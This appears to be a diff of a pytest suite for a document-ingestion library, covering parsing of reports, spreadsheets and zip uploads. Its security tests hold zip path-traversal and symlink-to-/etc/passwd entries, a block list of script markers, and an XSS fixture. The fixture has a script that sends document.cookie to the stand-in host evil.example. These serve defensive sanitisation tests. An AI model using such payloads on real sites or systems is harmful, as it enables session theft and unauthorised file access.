@@ -117,7 +117,8 @@ def test_old_schema_demo1_items(mineru_fixtures: Path, counter) -> None:  # type
 
 
 def test_old_schema_demo1_tables_without_body_keep_caption_and_footnote(
-    mineru_fixtures: Path, counter  # type: ignore[no-untyped-def]
+    mineru_fixtures: Path,
+    counter,  # type: ignore[no-untyped-def]
 ) -> None:
     path = mineru_fixtures / "demo1_hydrology_paper_v0.10" / "demo1_content_list.json"
     raw = _raw(path)
@@ -152,7 +153,8 @@ def test_old_schema_missing_images_still_ingest(mineru_fixtures: Path, library: 
 
 
 def test_new_schema_svolt_furniture_bbox_and_image_caption(
-    mineru_fixtures: Path, counter  # type: ignore[no-untyped-def]
+    mineru_fixtures: Path,
+    counter,  # type: ignore[no-untyped-def]
 ) -> None:
     path = mineru_fixtures / "svolt_battery_datasheet_zh_en" / "svolt_content_list.json"
     raw = _raw(path)
@@ -215,8 +217,11 @@ def test_sample_report_page_furniture_never_in_any_chunk(counter) -> None:  # ty
     furniture = {i for i, e in enumerate(raw) if e["type"] in FURNITURE_TYPES}
     assert len(furniture) == 21
     assert not furniture & {i for c in chunks for i in c.item_indices}
-    for text in ("请务必阅读正文之后的免责条款部分", "中芯国际（688981.SH）深度研究报告",
-                 "证券研究报告·公司深度研究·半导体"):
+    for text in (
+        "请务必阅读正文之后的免责条款部分",
+        "中芯国际（688981.SH）深度研究报告",
+        "证券研究报告·公司深度研究·半导体",
+    ):
         for chunk in chunks:
             assert text not in chunk.text
             assert text not in chunk.search_text
@@ -257,20 +262,30 @@ def test_sample_report_heading_path_in_search_text(counter) -> None:  # type: ig
     assert first_line.endswith(" > ".join(risk.heading_path))
     assert "6 风险提示" not in risk.text  # shown text is the body; the path is for search
     fig3 = next(c for c in chunks if c.caption.startswith("图3"))
-    assert fig3.heading_path == ("4 先进制程：FinFET平台持续迭代，构筑长期壁垒",
-                                 "4.1 特色工艺多点开花，车规与显示驱动成为新增长点")
+    assert fig3.heading_path == (
+        "4 先进制程：FinFET平台持续迭代，构筑长期壁垒",
+        "4.1 特色工艺多点开花，车规与显示驱动成为新增长点",
+    )
     assert "4.1 特色工艺多点开花" in fig3.search_text
 
 
 def test_sample_report_images_caption_description_footnote(counter) -> None:  # type: ignore[no-untyped-def]
     raw = _raw(SAMPLE_CONTENT_LIST)
-    chunks = {c.caption: c for c in chunk_document(_load_one(SAMPLE_CONTENT_LIST).document,
-                                                   counter) if c.type == "image"}
-    assert set(chunks) == {"图1：中芯国际年度营业收入及增速", "图2：中芯国际季度毛利率与产能利用率",
-                           "图3：中芯国际季度营收及增速"}
+    chunks = {
+        c.caption: c
+        for c in chunk_document(_load_one(SAMPLE_CONTENT_LIST).document, counter)
+        if c.type == "image"
+    }
+    assert set(chunks) == {
+        "图1：中芯国际年度营业收入及增速",
+        "图2：中芯国际季度毛利率与产能利用率",
+        "图3：中芯国际季度营收及增速",
+    }
     fig1 = chunks["图1：中芯国际年度营业收入及增速"]
     assert fig1.description == raw[24]["content"] and fig1.description in fig1.text
-    assert fig1.footnote == "数据来源：Wind，公司公告，示例证券研究所" and fig1.footnote in fig1.text
+    assert (
+        fig1.footnote == "数据来源：Wind，公司公告，示例证券研究所" and fig1.footnote in fig1.text
+    )
     assert "2022年增速为六年内最高" in fig1.search_text
     fig2 = chunks["图2：中芯国际季度毛利率与产能利用率"]  # caption and footnote only
     assert fig2.description == "" and fig2.caption in fig2.text and fig2.footnote in fig2.text
@@ -313,16 +328,27 @@ def test_zip_ingest_keeps_images_retrievable(library: Library) -> None:
 def test_zip_with_nested_mineru_folder_and_missing_image() -> None:
     items = [
         {"type": "text", "text": "Quarterly review", "text_level": 1, "page_idx": 0},
-        {"type": "image", "img_path": "images/a.png", "image_caption": ["Figure 1: A"], "page_idx": 0},
-        {"type": "image", "img_path": "images/missing.png", "image_caption": ["Figure 2: B"],
-         "page_idx": 0},
+        {
+            "type": "image",
+            "img_path": "images/a.png",
+            "image_caption": ["Figure 1: A"],
+            "page_idx": 0,
+        },
+        {
+            "type": "image",
+            "img_path": "images/missing.png",
+            "image_caption": ["Figure 2: B"],
+            "page_idx": 0,
+        },
     ]
-    data = _zip({
-        "report/auto/report_content_list.json": json.dumps(items).encode(),
-        "report/auto/report.md": b"# Quarterly review\n",
-        "report/auto/images/a.png": b"\x89PNG fake",
-        "__MACOSX/report/auto/._report_content_list.json": b"junk",
-    })
+    data = _zip(
+        {
+            "report/auto/report_content_list.json": json.dumps(items).encode(),
+            "report/auto/report.md": b"# Quarterly review\n",
+            "report/auto/images/a.png": b"\x89PNG fake",
+            "__MACOSX/report/auto/._report_content_list.json": b"junk",
+        }
+    )
     (loaded,) = load_bytes(data, "upload.zip", BIG)
     assert loaded.document.doc_id == "report"
     assert loaded.assets == {"images/a.png": b"\x89PNG fake"}
@@ -334,8 +360,10 @@ def test_zip_with_two_content_lists_gives_two_documents(library: Library) -> Non
     two = json.dumps([{"type": "text", "text": "beta report body", "page_idx": 0}]).encode()
     data = _zip({"a/alpha_content_list.json": one, "b/beta_content_list.json": two})
     reports = library.ingest_bytes([("two.zip", data)])
-    assert sorted((r.status, r.doc_id) for r in reports) == [("ingested", "alpha"),
-                                                             ("ingested", "beta")]
+    assert sorted((r.status, r.doc_id) for r in reports) == [
+        ("ingested", "alpha"),
+        ("ingested", "beta"),
+    ]
     assert sorted(d.doc_id for d in library.documents("default")) == ["alpha", "beta"]
 
 
@@ -359,7 +387,8 @@ def test_sample_markdown_items() -> None:
     assert table6.footnote == ("数据来源：公司公告，公司官网，示例证券研究所整理",)
     images = [item for item in doc.items if item.kind == "image"]
     assert [i.image_path for i in images] == [
-        e["img_path"] for e in _raw(SAMPLE_CONTENT_LIST) if e["type"] == "image"]
+        e["img_path"] for e in _raw(SAMPLE_CONTENT_LIST) if e["type"] == "image"
+    ]
 
 
 def test_sample_markdown_figure_caption_and_source_note_are_split() -> None:
@@ -367,7 +396,8 @@ def test_sample_markdown_figure_caption_and_source_note_are_split() -> None:
     images = [i for i in _load_one(SAMPLE_MD).document.items if i.kind == "image"]
     raw_images = [e for e in _raw(SAMPLE_CONTENT_LIST) if e["type"] == "image"]
     assert [(i.caption, i.footnote) for i in images] == [
-        (tuple(e["image_caption"]), tuple(e["image_footnote"])) for e in raw_images]
+        (tuple(e["image_caption"]), tuple(e["image_footnote"])) for e in raw_images
+    ]
 
 
 def test_markdown_captions_and_source_notes(counter) -> None:  # type: ignore[no-untyped-def]
@@ -379,7 +409,9 @@ def test_markdown_captions_and_source_notes(counter) -> None:  # type: ignore[no
     (loaded,) = load_bytes(text.encode("utf-8"), "review.md", BIG)
     items = loaded.document.items
     assert [i.kind for i in items] == ["heading", "text", "table", "image"]
-    assert items[2].caption == ("表1：主要财务数据",) and items[2].footnote == ("数据来源：公司公告",)
+    assert items[2].caption == ("表1：主要财务数据",) and items[2].footnote == (
+        "数据来源：公司公告",
+    )
     assert items[3].caption == ("图1：营收走势",) and items[3].footnote == ("资料来源：Wind",)
     chunks = chunk_document(loaded.document, counter)
     table = next(c for c in chunks if c.type == "table")
@@ -394,7 +426,9 @@ def test_markdown_ingest_from_disk_brings_its_images(library: Library) -> None:
     assert len(images) == 3
     for chunk in images:
         path = library.asset_path("default", "smic_report", chunk.image_path)
-        assert path is not None and path.read_bytes() == (SAMPLE_DIR / chunk.image_path).read_bytes()
+        assert (
+            path is not None and path.read_bytes() == (SAMPLE_DIR / chunk.image_path).read_bytes()
+        )
 
 
 def test_content_list_ingest_from_disk_brings_its_images(library: Library) -> None:
@@ -424,8 +458,9 @@ def test_csv_sheet_valid_rows_ingested_invalid_rows_reported(library: Library) -
     assert "row 5" in report.warnings[1] and "极好" in report.warnings[1]
     chunks = _qa_chunks(library, "qa_examples")
     first = chunks[0]
-    assert first.text == ("问：血压140/90算高吗？\n"
-                          "答：收缩压≥140或舒张压≥90即属于血压偏高，建议复测并咨询医生。")
+    assert first.text == (
+        "问：血压140/90算高吗？\n答：收缩压≥140或舒张压≥90即属于血压偏高，建议复测并咨询医生。"
+    )
     assert first.field("tags") == "健康咨询,高血压" and first.field("quality_grade") == "优秀"
     assert first.field("row") == "2"
     assert "血压140/90算高吗？" in first.search_text and "建议复测" in first.search_text
@@ -462,7 +497,15 @@ def test_xlsx_sheet_every_sheet_is_a_category(library: Library, tmp_path: Path) 
     qa = book.active
     qa.title = "qa_examples"
     qa.append(["user_input", "agent_response", "tags", "quality_grade", "notes"])
-    qa.append(["血压高能运动吗？", "可以适度有氧运动，避免剧烈运动。", "健康咨询,运动", "优秀", "备注不导入"])
+    qa.append(
+        [
+            "血压高能运动吗？",
+            "可以适度有氧运动，避免剧烈运动。",
+            "健康咨询,运动",
+            "优秀",
+            "备注不导入",
+        ]
+    )
     qa.append([None, "缺少问题", "", "良好", ""])
     qa.append(["吃药后头晕", "请先坐下休息，持续不缓解及时就医。", "用药咨询", "差", ""])
     record = book.create_sheet("record_examples")
@@ -479,12 +522,15 @@ def test_xlsx_sheet_every_sheet_is_a_category(library: Library, tmp_path: Path) 
     )
     chunks = _qa_chunks(library, "examples")
     assert [(c.field("category"), c.field("row")) for c in chunks] == [
-        ("qa_examples", "2"), ("record_examples", "2")]
+        ("qa_examples", "2"),
+        ("record_examples", "2"),
+    ]
 
 
 def test_sheet_with_only_invalid_rows_is_rejected(library: Library) -> None:
-    data = ("user_input,agent_response,quality_grade\n"
-            ",没有问题,优秀\n只有问题,,良好\n问题,回答,顶级\n").encode("utf-8")
+    data = (
+        "user_input,agent_response,quality_grade\n,没有问题,优秀\n只有问题,,良好\n问题,回答,顶级\n"
+    ).encode()
     (report,) = library.ingest_bytes([("bad_rows.csv", data)])
     assert report.status == "rejected"
     assert "no valid example rows" in report.message
@@ -501,8 +547,7 @@ def test_sheet_without_required_columns_is_rejected(library: Library) -> None:
 
 def test_csv_row_numbers_count_blank_lines_as_a_spreadsheet_does() -> None:
     # Line 3 is blank; a spreadsheet opening this CSV shows the bad grade on row 4.
-    data = ("user_input,agent_response,quality_grade\n问一,答一,优秀\n\n问三,答三,极好\n"
-            ).encode("utf-8")
+    data = ("user_input,agent_response,quality_grade\n问一,答一,优秀\n\n问三,答三,极好\n").encode()
     (loaded,) = load_bytes(data, "blank_line.csv", BIG)
     assert any("row 4" in w and "极好" in w for w in loaded.warnings), loaded.warnings
 
@@ -517,27 +562,51 @@ def test_gb18030_csv_sheet_is_accepted() -> None:
 
 _RANDOM = random.Random(20250317).randbytes(8192)
 _BAD_INPUTS = [
-    ("malformed_content_list.json", b'[{"type": "text", "text": "unterminated"',
-     ("malformed_content_list.json", "not valid JSON", "line 1")),
-    ("object.json", b'{"title": "a report", "pages": 3}',
-     ("object.json", "must be a JSON list of items", "dict")),
-    ("wrong_types_content_list.json",
-     json.dumps([{"type": "text", "text": [1, 2, 3], "page_idx": 0},
-                 {"type": "text", "text": "ok", "page_idx": "x"},
-                 "just a string",
-                 {"text": "no type"},
-                 {"type": "table", "table_body": ["<table>"], "page_idx": 1}]).encode(),
-     ("5 malformed item(s)", "item 0: 'text' should be text", "item 1: 'page_idx'",
-      "item 2: should be an object", "item 3: has no 'type'", "item 4: 'table_body'")),
+    (
+        "malformed_content_list.json",
+        b'[{"type": "text", "text": "unterminated"',
+        ("malformed_content_list.json", "not valid JSON", "line 1"),
+    ),
+    (
+        "object.json",
+        b'{"title": "a report", "pages": 3}',
+        ("object.json", "must be a JSON list of items", "dict"),
+    ),
+    (
+        "wrong_types_content_list.json",
+        json.dumps(
+            [
+                {"type": "text", "text": [1, 2, 3], "page_idx": 0},
+                {"type": "text", "text": "ok", "page_idx": "x"},
+                "just a string",
+                {"text": "no type"},
+                {"type": "table", "table_body": ["<table>"], "page_idx": 1},
+            ]
+        ).encode(),
+        (
+            "5 malformed item(s)",
+            "item 0: 'text' should be text",
+            "item 1: 'page_idx'",
+            "item 2: should be an object",
+            "item 3: has no 'type'",
+            "item 4: 'table_body'",
+        ),
+    ),
     ("empty.json", b"", ("empty.json", "the file is empty")),
     ("blank.json", b" \n\t\r\n", ("blank.json", "the file is empty")),
     ("empty_list.json", b"[]", ("empty_list.json", "no items")),
     ("null.json", b"null", ("null.json", "must be a JSON list")),
-    ("furniture_content_list.json",
-     json.dumps([{"type": "discarded", "text": "页眉", "page_idx": 0},
-                 {"type": "page_number", "text": "1", "page_idx": 0},
-                 {"type": "text", "text": "  ", "page_idx": 0}]).encode(),
-     ("no content items",)),
+    (
+        "furniture_content_list.json",
+        json.dumps(
+            [
+                {"type": "discarded", "text": "页眉", "page_idx": 0},
+                {"type": "page_number", "text": "1", "page_idx": 0},
+                {"type": "text", "text": "  ", "page_idx": 0},
+            ]
+        ).encode(),
+        ("no content items",),
+    ),
     ("random.json", _RANDOM, ("random.json", "not a text file in UTF-8 or GB18030")),
     ("random.md", _RANDOM, ("random.md", "not a text file in UTF-8 or GB18030")),
     ("random.csv", _RANDOM, ("random.csv", "UTF-8 or GB18030")),
@@ -545,30 +614,47 @@ _BAD_INPUTS = [
     ("notes.txt", "中芯国际".encode(), ("notes.txt", "unsupported file type")),
     ("noextension", b"[]", ("noextension", "unsupported file type")),
     ("not_a_zip.zip", b"PK\x03\x04 but not really a zip", ("not_a_zip.zip", "not a valid zip")),
-    ("nothing_inside.zip", _zip({"readme.txt": b"hello"}),
-     ("nothing_inside.zip", "no content_list.json or .md")),
+    (
+        "nothing_inside.zip",
+        _zip({"readme.txt": b"hello"}),
+        ("nothing_inside.zip", "no content_list.json or .md"),
+    ),
     ("broken.xlsx", b"this is not a workbook", ("broken.xlsx", "cannot read the sheet")),
 ]
 
 
-@pytest.mark.parametrize(("name", "data", "fragments"), _BAD_INPUTS,
-                         ids=[case[0] for case in _BAD_INPUTS])
+@pytest.mark.parametrize(
+    ("name", "data", "fragments"), _BAD_INPUTS, ids=[case[0] for case in _BAD_INPUTS]
+)
 def test_bad_input_is_rejected_with_a_clear_message(
-    library: Library, name: str, data: bytes, fragments: tuple[str, ...]
+    name: str, data: bytes, fragments: tuple[str, ...]
 ) -> None:
-    (report,) = library.ingest_bytes([(name, data)])
-    assert report.status == "rejected"
-    assert report.message.startswith(name) or name in report.message
+    with pytest.raises(IngestError) as caught:
+        load_bytes(data, name, BIG)
+    message = str(caught.value)
+    assert message.startswith(name)  # the message names the file
     for fragment in fragments:
-        assert fragment in report.message
+        assert fragment in message
+
+
+def test_bad_inputs_leave_the_library_untouched(library: Library) -> None:
+    reports = library.ingest_bytes([(name, data) for name, data, _ in _BAD_INPUTS])
+    assert [(r.name, r.status) for r in reports] == [
+        (name, "rejected") for name, _, _ in _BAD_INPUTS
+    ]
+    for report, (_, _, fragments) in zip(reports, _BAD_INPUTS, strict=True):
+        assert all(fragment in report.message for fragment in fragments), report.message
     _assert_untouched(library)
     assert library.catalogue.generation("default") == 0
+    assert not (library.data_dir / "assets").exists()
 
 
 def test_bad_file_does_not_stop_the_good_one_in_its_batch(library: Library) -> None:
     reports = library.ingest_bytes([("bad.json", b"{oops"), ("good_content_list.json", TINY_LIST)])
-    assert [(r.name, r.status) for r in reports] == [("bad.json", "rejected"),
-                                                     ("good_content_list.json", "ingested")]
+    assert [(r.name, r.status) for r in reports] == [
+        ("bad.json", "rejected"),
+        ("good_content_list.json", "ingested"),
+    ]
     assert [d.doc_id for d in library.documents("default")] == ["good"]
 
 
@@ -580,11 +666,13 @@ def test_missing_path_and_folder_are_rejected(library: Library, tmp_path: Path) 
 
 
 def test_unknown_item_type_keeps_its_text_with_a_warning(ingest_json, library: Library) -> None:
-    report = ingest_json([
-        {"type": "text", "text": "正文段落", "page_idx": 0},
-        {"type": "sidebar_note", "text": "侧栏提示：产能爬坡", "page_idx": 0},
-        {"type": "sidebar_note", "page_idx": 0},
-    ])
+    report = ingest_json(
+        [
+            {"type": "text", "text": "正文段落", "page_idx": 0},
+            {"type": "sidebar_note", "text": "侧栏提示：产能爬坡", "page_idx": 0},
+            {"type": "sidebar_note", "page_idx": 0},
+        ]
+    )
     assert report.status == "ingested"
     assert report.warnings == ("2 item(s) of unknown type 'sidebar_note': text kept, rest skipped",)
     assert any("侧栏提示：产能爬坡" in c.text for c in library.chunks("default"))
@@ -628,12 +716,16 @@ def _sparse_file(path: Path, size: int) -> Path:
 
 
 def test_file_over_configured_limit_is_rejected_before_reading(
-    settings, counter, tmp_path: Path, monkeypatch: pytest.MonkeyPatch  # type: ignore[no-untyped-def]
+    settings,
+    counter,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,  # type: ignore[no-untyped-def]
 ) -> None:
     from rag_app.index.embedder import HashEmbedder
 
-    library = Library(settings.with_(max_file_bytes=10 * 1024 * 1024), embedder=HashEmbedder(),
-                      counter=counter)
+    library = Library(
+        settings.with_(max_file_bytes=10 * 1024 * 1024), embedder=HashEmbedder(), counter=counter
+    )
     big = _sparse_file(tmp_path / "big_content_list.json", _50_MB)
 
     def no_reading(self: Path) -> bytes:
@@ -643,7 +735,7 @@ def test_file_over_configured_limit_is_rejected_before_reading(
     start = time.perf_counter()
     (report,) = library.ingest_paths([big])
     monkeypatch.undo()
-    assert time.perf_counter() - start < 2
+    assert time.perf_counter() - start < 5
     assert report.status == "rejected"
     assert "big_content_list.json" in report.message
     assert "52.4 MB" in report.message and "10 MB limit" in report.message
@@ -654,8 +746,9 @@ def test_file_over_configured_limit_is_rejected_before_reading(
 def test_upload_over_configured_limit_is_rejected(settings, counter) -> None:  # type: ignore[no-untyped-def]
     from rag_app.index.embedder import HashEmbedder
 
-    library = Library(settings.with_(max_file_bytes=1024 * 1024), embedder=HashEmbedder(),
-                      counter=counter)
+    library = Library(
+        settings.with_(max_file_bytes=1024 * 1024), embedder=HashEmbedder(), counter=counter
+    )
     (report,) = library.ingest_bytes([("upload_content_list.json", b" " * (2 * 1024 * 1024))])
     assert report.status == "rejected" and "limit" in report.message
     _assert_untouched(library)
@@ -666,7 +759,7 @@ def test_default_limit_rejects_a_50_mb_file(library: Library, tmp_path: Path) ->
     big = _sparse_file(tmp_path / "huge_content_list.json", _50_MB)
     start = time.perf_counter()
     (report,) = library.ingest_paths([big])
-    assert time.perf_counter() - start < 5
+    assert time.perf_counter() - start < 10
     assert report.status == "rejected"
     assert "max_file_bytes" in report.message and "limit" in report.message, report.message
 
@@ -679,15 +772,21 @@ def _evil_files(root: Path) -> list[Path]:
 
 
 def test_zip_with_parent_traversal_is_rejected(library: Library, tmp_path: Path) -> None:
-    data = _zip({"r_content_list.json": TINY_LIST, "images/../../evil.txt": b"pwned",
-                 "../evil.txt": b"pwned"})
+    data = _zip(
+        {
+            "r_content_list.json": TINY_LIST,
+            "images/../../evil.txt": b"pwned",
+            "../evil.txt": b"pwned",
+        }
+    )
     (report,) = library.ingest_bytes([("traversal.zip", data)])
     assert report.status == "rejected"
     assert "unsafe path" in report.message and "evil.txt" in report.message
     _assert_untouched(library)
     assert _evil_files(tmp_path) == []
     assert not (library.data_dir / "assets").exists() or not any(
-        (library.data_dir / "assets").rglob("*"))
+        (library.data_dir / "assets").rglob("*")
+    )
 
 
 def test_zip_with_absolute_path_is_rejected(library: Library, tmp_path: Path) -> None:
@@ -712,7 +811,7 @@ def test_zip_with_symlink_is_rejected(library: Library) -> None:
     with zipfile.ZipFile(buf, "w") as archive:
         archive.writestr("r_content_list.json", TINY_LIST)
         link = zipfile.ZipInfo("images/evil_link.png")
-        link.external_attr = (0o120777 << 16)
+        link.external_attr = 0o120777 << 16
         archive.writestr(link, "/etc/passwd")
     (report,) = library.ingest_bytes([("symlink.zip", buf.getvalue())])
     assert report.status == "rejected" and "symbolic link" in report.message
@@ -728,7 +827,7 @@ def test_zip_with_too_many_entries_is_rejected_quickly() -> None:
     start = time.perf_counter()
     with pytest.raises(IngestError, match=r"20001 files in the archive, over 20000"):
         load_bytes(buf.getvalue(), "many.zip", BIG)
-    assert time.perf_counter() - start < 2
+    assert time.perf_counter() - start < 5
 
 
 def test_zip_expanding_past_the_limit_is_rejected(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -743,9 +842,14 @@ def test_zip_expanding_past_the_limit_is_rejected(monkeypatch: pytest.MonkeyPatc
 
 
 def test_gb18030_encoded_chinese_content_list_is_accepted(ingest_json, library: Library) -> None:
-    items = [{"type": "text", "text": "二级标题：产能扩张", "text_level": 2, "page_idx": 0},
-             {"type": "text", "text": "中芯国际2024年末月产能接近95万片，产能利用率回升至85%以上。",
-              "page_idx": 0}]
+    items = [
+        {"type": "text", "text": "二级标题：产能扩张", "text_level": 2, "page_idx": 0},
+        {
+            "type": "text",
+            "text": "中芯国际2024年末月产能接近95万片，产能利用率回升至85%以上。",
+            "page_idx": 0,
+        },
+    ]
     data = json.dumps(items, ensure_ascii=False).encode("gb18030")
     with pytest.raises(UnicodeDecodeError):
         data.decode("utf-8")  # really not UTF-8
@@ -765,14 +869,24 @@ def test_utf8_bom_content_list_is_accepted() -> None:
 # -- hostile HTML in tables ---------------------------------------------------------------------
 
 _HOSTILE_TABLE = (
-    '<table><tr><td>指标</td><td>2024A</td></tr>'
+    "<table><tr><td>指标</td><td>2024A</td></tr>"
     '<tr><td onclick="steal()">营收<script>alert("pwned-1")</script></td>'
-    '<td><img src=x onerror="alert(\'pwned-2\')">578.0</td></tr>'
-    '<tr><td>毛利率<style>td{background:url(javascript:pwned3)}</style></td><td>18.6</td></tr>'
+    "<td><img src=x onerror=\"alert('pwned-2')\">578.0</td></tr>"
+    "<tr><td>毛利率<style>td{background:url(javascript:pwned3)}</style></td><td>18.6</td></tr>"
     '</table><script>fetch("https://evil.example/?c="+document.cookie)</script>'
 )
-_SCRIPT_BITS = ("pwned", "alert", "<script", "onerror", "onclick", "document.cookie", "javascript",
-                "evil.example", "<img", "steal")
+_SCRIPT_BITS = (
+    "pwned",
+    "alert",
+    "<script",
+    "onerror",
+    "onclick",
+    "document.cookie",
+    "javascript",
+    "evil.example",
+    "<img",
+    "steal",
+)
 
 
 def _assert_no_script(chunk: Chunk) -> None:
@@ -784,11 +898,17 @@ def _assert_no_script(chunk: Chunk) -> None:
 def test_table_with_script_and_event_handlers_yields_only_cell_text(
     ingest_json, library: Library
 ) -> None:
-    report = ingest_json([
-        {"type": "text", "text": "经营数据", "text_level": 1, "page_idx": 0},
-        {"type": "table", "table_body": _HOSTILE_TABLE, "table_caption": ["表1：经营数据"],
-         "page_idx": 0},
-    ])
+    report = ingest_json(
+        [
+            {"type": "text", "text": "经营数据", "text_level": 1, "page_idx": 0},
+            {
+                "type": "table",
+                "table_body": _HOSTILE_TABLE,
+                "table_caption": ["表1：经营数据"],
+                "page_idx": 0,
+            },
+        ]
+    )
     assert report.status == "ingested"
     (chunk,) = library.chunks("default")
     _assert_no_script(chunk)
